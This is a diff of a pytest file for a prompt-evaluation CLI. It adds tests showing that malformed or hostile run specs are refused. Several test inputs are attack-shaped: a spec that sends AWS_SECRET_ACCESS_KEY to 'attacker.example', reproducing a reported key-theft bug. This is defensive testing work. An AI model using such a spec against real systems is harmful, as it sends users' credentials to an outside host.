@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -15,18 +16,11 @@ from promptlab.fakellm import FakeLLMConfig, RunningServer, serve_in_thread
 from promptlab.store import Store
 from promptlab.store.runs import RunStore
 
-KEY_ENV = "PROMPTLAB_TEST_FAKE_KEY"
-
 
 @pytest.fixture
 def server() -> Iterator[RunningServer]:
     with serve_in_thread(FakeLLMConfig(port=0, latency_ms=5)) as running:
         yield running
-
-
-@pytest.fixture(autouse=True)
-def fake_key(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv(KEY_ENV, "test-key")
 
 
 def write_spec(tmp_path: Path, base_url: str, rows: int = 20, **extra: Any) -> Path:
@@ -47,7 +41,7 @@ def write_spec(tmp_path: Path, base_url: str, rows: int = 20, **extra: Any) -> P
                 "model": "fake:gpt-4o-mini",
             },
         ],
-        "endpoints": {"fake": {"kind": "openai", "base_url": base_url, "api_key_env": KEY_ENV}},
+        "endpoints": {"fake": {"kind": "openai", "base_url": base_url}},
         "limits": {"fake": {"rpm": 6000, "concurrency": 8}},
         "retry": {"max_attempts": 3, "timeout_s": 10},
         **extra,
@@ -100,13 +94,53 @@ def test_run_prints_the_id_then_a_summary_and_exits_0(
             "dataset: rows.csv\nvariants: [{prompt: x}]\n"
             "endpoints: {leak: {kind: openai, base_url: 'http://127.0.0.1:9/v1',"
             " api_key_env: OPENAI_API_KEY}}\n",
-            "'OPENAI_API_KEY' is not allowed in a run spec",
+            "endpoints.leak: a run spec cannot name a key",
         ),
         (
             "dataset: rows.csv\nvariants: [{prompt: x}]\n"
-            "endpoints: {leak: {kind: anthropic, base_url: 'http://127.0.0.1:9',"
-            " api_key_env: HOME}}\n",
-            "'HOME' is not allowed in a run spec",
+            "endpoints: {leak: {kind: openai, base_url: 'https://attacker.example/v1',"
+            " api_key_env: AWS_SECRET_ACCESS_KEY}}\n",
+            "endpoints.leak: a run spec cannot name a key",
+        ),
+        (
+            "dataset: rows.csv\nvariants: [{prompt: x}]\n"
+            "endpoints: {leak: {kind: openai, base_url: 'https://attacker.example/v1'}}\n",
+            "endpoints.leak.base_url: attacker.example is not this machine",
+        ),
+        (
+            "dataset: rows.csv\nvariants: [{prompt: x}]\nendpoints: {x: {kind: openai,"
+            " base_url: 5}}\n",
+            "endpoints.x.base_url: expected a URL string, got 5",
+        ),
+        (
+            "dataset: rows.csv\nvariants: [{prompt: x}]\nretry: {timeout_s: .inf}\n",
+            "retry.timeout_s: expected a finite number, got inf",
+        ),
+        (
+            "dataset: rows.csv\nvariants: [{prompt: x}]\nretry: {timeout_s: .nan}\n",
+            "retry.timeout_s: expected a finite number, got nan",
+        ),
+        (
+            "dataset: rows.csv\nvariants: [{prompt: x}]\nlimits: {sim: {burst_s: .nan}}\n",
+            "limits.sim.burst_s: expected a positive number of seconds, got nan",
+        ),
+        (
+            "dataset: rows.csv\nvariants: [{messages: [{role: user, content: hi}],"
+            " model: 'sim:careful'}]\nlimits: {simm: {rpm: 5}}\n",
+            "limits.simm: no endpoint of that name",
+        ),
+        (
+            "dataset: rows.csv\nvariants: [{messages: [{role: user, content: hi}],"
+            " model: 'sim:nosuchmodel'}]\n",
+            "the simulator has no model 'nosuchmodel'",
+        ),
+        (
+            "name: 123\ndataset: rows.csv\nvariants: [{prompt: x}]\n",
+            "'name' must be a string, got 123",
+        ),
+        (
+            "dataset: rows.csv\nrepeats: 100000000000\nvariants: [{prompt: x}]\n",
+            "repeats: at most 1,000",
         ),
     ],
 )
@@ -129,6 +163,12 @@ def test_a_bad_spec_exits_2_with_the_field_named(
         ("rows.jsonl", b'{"text": "a \\ud800 b"}\n', "line 1: contains an unpaired surrogate"),
         ("rows.csv", b"", "no header row"),
         ("rows.csv", b"text\n\xff\xfe\n", "not UTF-8"),
+        # An open quote would swallow the rest of the file into one cell.
+        (
+            "rows.csv",
+            b'text\nfine\n"never closed\nrow 3\nrow 4\n',
+            "line 3: a quoted field is never",
+        ),
     ],
 )
 def test_a_malformed_dataset_exits_2_before_any_run_exists(
@@ -142,6 +182,52 @@ def test_a_malformed_dataset_exits_2_before_any_run_exists(
     assert message in result.stderr and "Traceback" not in result.output
     with Store(db_path) as store:
         assert RunStore(store).list_runs(10) == []
+
+
+def test_a_dataset_that_is_a_fifo_is_refused_instead_of_hanging(
+    tmp_path: Path, db_path: Path
+) -> None:
+    os.mkfifo(tmp_path / "rows.csv")  # reading it would block until a writer comes
+    spec = tmp_path / "spec.yaml"
+    spec.write_text("dataset: rows.csv\nvariants: [{messages: [{role: user, content: hi}]}]\n")
+    result = CliRunner().invoke(main, ["run", str(spec)])
+    assert result.exit_code == 2, result.output
+    assert "rows.csv: not a regular file" in result.stderr
+
+
+def test_a_plan_over_the_item_ceiling_is_refused_before_a_run_exists(
+    tmp_path: Path, db_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PROMPTLAB_MAX_ITEMS", "100")
+    (tmp_path / "rows.csv").write_text("text\n" + "row\n" * 30)
+    spec = tmp_path / "spec.yaml"
+    spec.write_text(
+        "dataset: rows.csv\nrepeats: 2\nvariants: [{messages: [{role: user, content: hi}]},"
+        " {name: b, messages: [{role: user, content: ho}]}]\n"
+    )
+    result = CliRunner().invoke(main, ["run", str(spec)])
+    assert result.exit_code == 2, result.output
+    assert "120 items (30 rows x 2 variants x 2 repeats) is over the limit of 100" in (
+        result.stderr
+    )
+    with Store(db_path) as store:
+        assert RunStore(store).list_runs(10) == []
+
+
+def test_a_key_theft_spec_is_refused_before_any_request(
+    tmp_path: Path, server: RunningServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The spec of the security report: a secret variable sent to the author's host."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-value-1234")
+    spec = write_spec(tmp_path, server.openai_base_url)
+    data = yaml.safe_load(spec.read_text())
+    data["endpoints"]["fake"]["api_key_env"] = "AWS_SECRET_ACCESS_KEY"
+    spec.write_text(yaml.safe_dump(data))
+    result = CliRunner().invoke(main, ["run", str(spec)])
+    assert result.exit_code == 2, result.output
+    assert "a run spec cannot name a key" in result.stderr
+    assert server.stats()["attempts"] == 0
+    assert "aws-secret-value" not in result.output
 
 
 def test_status_lists_failed_rows_with_their_reason(tmp_path: Path) -> None:
